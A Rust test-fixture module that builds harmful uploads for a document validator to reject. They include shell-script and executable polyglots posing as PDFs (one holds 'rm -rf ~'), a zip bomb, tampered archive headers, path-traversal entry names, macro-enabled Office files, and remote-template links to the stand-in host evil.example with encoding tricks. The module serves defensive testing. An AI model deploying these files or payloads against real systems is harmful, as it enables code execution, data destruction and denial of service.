//! Files that are made to harm: programs in documents, archives that burst, texts as PDF.

use crate::archives::{
    MEGA, Part, WORD_MAIN, archive, compound, crowded, packed, relationships, word, word_with,
    zeros,
};

/// The largest file that the form takes.
pub(crate) const LARGEST: usize = 20 * MEGA;

pub(crate) fn burst() -> Vec<u8> {
    word(&zeros(300 * MEGA), 300 * 1024 * 1024, &[])
}

/// All files that no message may have.
pub(crate) fn all() -> Vec<(String, Vec<u8>)> {
    let plain = files().into_iter();
    plain
        .map(|(name, bytes)| (name.to_owned(), bytes))
        .chain(documents_that_run())
        .chain(dishonest())
        .chain(pretended())
        .map(|(name, bytes)| (name.replace(['\u{1}', '/'], ""), bytes))
        .collect()
}

/// Files that are not what their names say, or that are made to harm.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let plain = |more: &[&str]| word(b"\x03\0", 0, more);
    let pptx = archive(
        &["[Content_Types].xml", "ppt/presentation.xml"].map(|name| Part {
            name,
            packed: b"\x03\0",
            unpacked: 0,
        }),
    );
    vec![
        ("script.pdf", b"#!/bin/sh\nrm -rf ~\n# %PDF-1.7\n".to_vec()),
        ("page.pdf", b"<script>alert(1)//%PDF-1.7</script>".to_vec()),
        ("program.pdf", b"MZ\x90\0%PDF-1.7".to_vec()),
        ("burst.docx", burst()),
        ("crowded.docx", crowded(LARGEST - 64)),
        ("crowd.docx", crowded(2 * MEGA)),
        ("outside.docx", plain(&["../../../.bashrc"])),
        ("absolute.docx", plain(&["/etc/cron.d/x"])),
        ("backslash.docx", plain(&["..\\..\\x.exe"])),
        ("macro.docx", plain(&["word/vbaProject.bin"])),
        ("slides.docx", pptx),
        ("words.pptx", plain(&[])),
        ("plan.doc", plain(&[])),
        ("plan.pdf", plain(&[])),
    ]
}

/// Relationships that load a file of another place, or run one; a link that a reader follows is
/// none of them.
fn references() -> Vec<(&'static str, String)> {
    let external = |kind, target| (kind, target, " TargetMode=\"External\"");
    [
        external("attachedTemplate", "https://evil.example/x.dotm"),
        external("attachedTemplate", "file://evil.example/x.dotm"),
        (
            "attachedTemplate",
            "https://evil.example/x.dotm",
            " TargetMode=\"external\"",
        ),
        ("attachedTemplate", "\\\\evil.example\\x.dotm", ""),
        ("attachedTemplate", "//evil.example/x.dotm", ""),
        (
            "attached&#84;emplate",
            "https://evil.example/x.dotm",
            " TargetMode=\"Ext&#101;rnal\"",
        ),
        external("oleObject", "https://evil.example/x.rtf"),
        external("frame", "https://evil.example/x.html"),
        external("subDocument", "https://evil.example/x.docx"),
        external("image", "https://evil.example/x.png"),
        ("vbaProject", "project.dat", ""),
    ]
    .map(|row| (row.0, relationships(&[row])))
    .to_vec()
}

/// Documents with something in them that may run.
fn documents_that_run() -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    let storages = [
        "_VBA_PROJECT",
        "VBA",
        "Macros",
        "_VBA_PROJECT_CUR",
        "\u{1}Ole10Native",
        "vba",
    ];
    for (extension, stream) in [("doc", "WordDocument"), ("ppt", "PowerPoint Document")] {
        for storage in storages {
            let mut names = vec!["Root Entry", stream];
            names.extend(["x"; 9]);
            names.push(storage);
            files.push((
                format!("{}.{extension}", storage.trim_start()),
                compound(&names),
            ));
            names.reverse();
            files.push((format!("first {storage}.{extension}"), compound(&names)));
            names = vec!["x"; 300];
            names[0] = stream;
            names.push(storage);
            files.push((format!("late {storage}.{extension}"), compound(&names)));
        }
    }
    let book = packed(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("xl/VbaProject.bin", b"x"),
    ]);
    let object = compound(&["Root Entry", "\u{1}Ole10Native"]);
    for (name, bytes) in [
        ("word/VBAPROJECT.BIN", &b"x"[..]),
        ("word/vbaData.xml", b"<x/>"),
        ("payload.exe", b"x"),
        ("word/embeddings/Payload.EXE", b"x"),
        ("word/embeddings/payload.js", b"x"),
        ("word/embeddings/payload.lnk", b"x"),
        ("word/embeddings/payload.xlsm", b"x"),
        ("word/embeddings/picture.bin", b"MZ\x90\0"),
        ("word/embeddings/oleObject1.bin", &object),
        ("word/embeddings/Sheet1.xlsx", &book),
        ("word/activeX/activeX1.bin", b"x"),
        ("word/document.xml", b"<document/>"),
        ("word/Document.XML", b"<document/>"),
        ("[content_types].xml", b"<Types/>"),
    ] {
        files.push((
            format!("{}.docx", name.replace('/', " ")),
            word_with(WORD_MAIN, &[(name, bytes)]),
        ));
    }
    for kind in [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.document.MACROENABLED.main+xml",
        "application/vnd.ms-word.document.macro&#69;nabled.main+xml",
        "application/vnd.ms-office.vbaProject",
    ] {
        files.push(("type.docx".to_owned(), word_with(kind, &[])));
    }
    for (kind, text) in references() {
        for part in [
            "word/_rels/settings.xml.rels",
            "word/_RELS/document.xml.RELS",
        ] {
            let file = word_with(WORD_MAIN, &[(part, text.as_bytes())]);
            files.push((format!("{kind}.docx").replace(['&', '#', ';'], ""), file));
        }
    }
    files
}

/// Archives whose directory does not agree with the rest of them.
fn dishonest() -> Vec<(String, Vec<u8>)> {
    let claims = |bytes: u32| word(&zeros(MEGA), bytes, &[]);
    let plain = || word_with(WORD_MAIN, &[]);
    let changed = |marker: &[u8], at: usize, by: u8| {
        let mut file = plain();
        let found = file.windows(4).position(|four| four == marker).unwrap();
        file[found + at] ^= by;
        file
    };
    vec![
        ("less.docx", word(&zeros(300 * MEGA), 1_000, &[])),
        ("little.docx", claims(1_000)),
        ("one.docx", claims(1024 * 1024 - 1)),
        ("more.docx", claims(1024 * 1024 + 1)),
        ("packed.docx", changed(b"PK\x03\x04", 18, 1)),
        ("unpacked.docx", changed(b"PK\x03\x04", 22, 1)),
        ("method.docx", changed(b"PK\x03\x04", 8, 8)),
        ("name.docx", changed(b"PK\x03\x04", 31, 0x20)),
        ("secret.docx", changed(b"PK\x01\x02", 8, 1)),
        ("place.docx", changed(b"PK\x01\x02", 42, 1)),
    ]
    .into_iter()
    .map(|(name, file)| (name.to_owned(), file))
    .collect()
}

/// Texts with the first line of a PDF in them.
fn pretended() -> Vec<(String, Vec<u8>)> {
    [
        "{\\rtf1 %PDF-1.7}",
        "@echo off\r\ncalc\r\nrem %PDF-1.7",
        "MIME-Version: 1.0\r\nX: %PDF-1.7\r\n",
        "\u{feff}{\\rtf1\n%PDF-1.7}",
        "WScript.Echo(1)\n%PDF-1.7",
        "x%PDF-1.7",
        "\u{1b}%-12345X@echo off\n%PDF-1.7",
        "\u{1b}%-12345X@PJL SET A=1\ncalc\n%PDF-1.7",
        "@PJL SET A=1\n%PDF-1.7",
    ]
    .map(|text| ("plan.pdf".to_owned(), text.as_bytes().to_vec()))
    .to_vec()
}
